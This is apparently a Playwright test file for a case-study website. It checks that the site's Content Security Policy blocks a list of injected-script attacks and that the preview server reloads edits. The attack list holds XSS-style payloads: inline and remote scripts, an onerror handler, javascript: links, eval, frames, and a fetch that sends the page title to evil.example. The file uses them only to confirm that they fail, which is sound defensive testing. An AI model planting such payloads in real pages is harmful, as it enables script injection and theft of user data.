"""The content security policy is in force on every kind of page, and hinders nothing of ours."""

from __future__ import annotations

import os
import re
import socket
import subprocess
import sys
import time

import pytest
from playwright.sync_api import expect

KINDS = [
    *("", "404.html", "cases/saint-etienne-performing-arts-ai/", "cases/amiens-cci-strategy/"),
    *("cases/", "cases/?country=france&map", "cases/?q=training", "cases/all/"),
    *("recommendations/", "recommendations/?q=training", "organisations/", "evidence/"),
    "cases/compare/?case=amiens-cci-strategy&case=lund-artificial-intelligence",
    *("areas/", "areas/ai-cci/", "countries/", "countries/france/", "themes/skills/"),
    *("tools-and-methods/", "tools-and-methods/opsi-model/", "facilitators-guide/"),
    *("facilitators-guide/capture/", "plan/", "downloads/", "search/?q=skills", "data/"),
    *("contribute/", "contribute/new-case/", "maintain/", "about/", "glossary/"),
]
"""A page of each kind, in the states that its scripts bring about."""

ATTACKS = {
    "script in the page": "add('script', {textContent: 'window.pwned = 1'})",
    "script of another host": "add('script', {src: 'https://evil.example/x.js'})",
    "script of data": "add('script', {src: 'data:text/javascript,window.pwned=1'})",
    "event attribute": "inside('<img src=nowhere.png onerror=\"window.pwned = 1\">')",
    "javascript link": "inside('<a href=\"javascript:window.pwned=1\">x</a>').firstChild.click()",
    "text as code": "try { eval('window.pwned = 1') } catch {}",
    "style attribute": "inside('<p style=\"position: fixed\">x</p>')",
    "style element": "add('style', {textContent: 'body { display: none }'})",
    "frame": "add('iframe', {src: 'https://evil.example/'})",
    "object": "add('object', {data: 'nowhere.swf'})",
    "picture of another host": "add('img', {src: 'https://evil.example/pixel.png'})",
    "request": "fetch('https://evil.example/?' + document.title).catch(() => {})",
    "form": "inside('<form action=\"https://evil.example/\"></form>').firstChild.submit()",
    "base": "add('base', {href: 'https://evil.example/'})",
}
"""What a page might be made to do, if all other defences had failed."""

TOOLS = """
const add = (name, values) => {
  document.body.append(Object.assign(document.createElement(name), values));
};
const inside = (html) => {
  const box = document.createElement("div");
  document.body.append(box);
  box.innerHTML = html;
  return box;
};
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.violations.push(event.effectiveDirective);
});
"""
"""What the attacks are written with."""


@pytest.mark.parametrize("address", KINDS)
def test_a_page_of_ours_breaks_no_rule_of_it(page, base_url, amiss, address):
    page.goto(base_url + address, wait_until="networkidle")

    expect(page.locator("h1")).to_be_visible()
    if address == "404.html":  # its links begin at the root of the host, which is another one here
        amiss.clear()
    assert amiss == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_it_forbids_does_not_happen(page, base_url, amiss, attack):
    asked = []
    page.route("https://evil.example/**", lambda route: asked.append(route.request.url))
    page.goto(base_url, wait_until="networkidle")

    # A moment later, since what a test itself evaluates is under no policy.
    page.evaluate(f"() => {{ {TOOLS} setTimeout(() => {{ {ATTACKS[attack]} }}); }}")
    page.wait_for_function("() => window.violations.length > 0")

    assert page.evaluate("window.pwned") is None
    assert asked == []
    assert page.url == base_url
    amiss.clear()


@pytest.fixture
def preview(copy):
    """Start `mkdocs serve` in a copy of the site; return its address."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        place = f"127.0.0.1:{free.getsockname()[1]}"
    environment = {
        **os.environ,
        "NO_MKDOCS_2_WARNING": "1",
        "CASEBOOK_SITE_URL": f"http://{place}/",
    }
    command = [sys.executable, "-m", "mkdocs", "serve", "--dev-addr", place]
    with subprocess.Popen(
        command, cwd=copy, env=environment, stdout=subprocess.PIPE, stderr=subprocess.STDOUT
    ) as server:
        for line in server.stdout:
            if b"Serving on" in line:
                break
        yield f"http://{place}/"
        server.terminate()


def test_a_preview_shows_what_was_changed_without_a_hand(page, copy, preview, amiss):
    page.goto(f"{preview}about/")
    expect(page.locator("h1")).to_be_visible()
    assert page.locator("meta[http-equiv=Content-Security-Policy]").count() == 0

    time.sleep(0.1)  # the polling observer compares times of files
    about = copy / "docs/about.md"
    text = about.read_text(encoding="utf-8")
    about.write_text(text + "\n\nA sentence that was added.\n", encoding="utf-8")

    expect(page.get_by_text("A sentence that was added.")).to_be_visible(timeout=60_000)
    assert [line for line in amiss if not re.search(re.escape(preview), line)] == []
    amiss.clear()
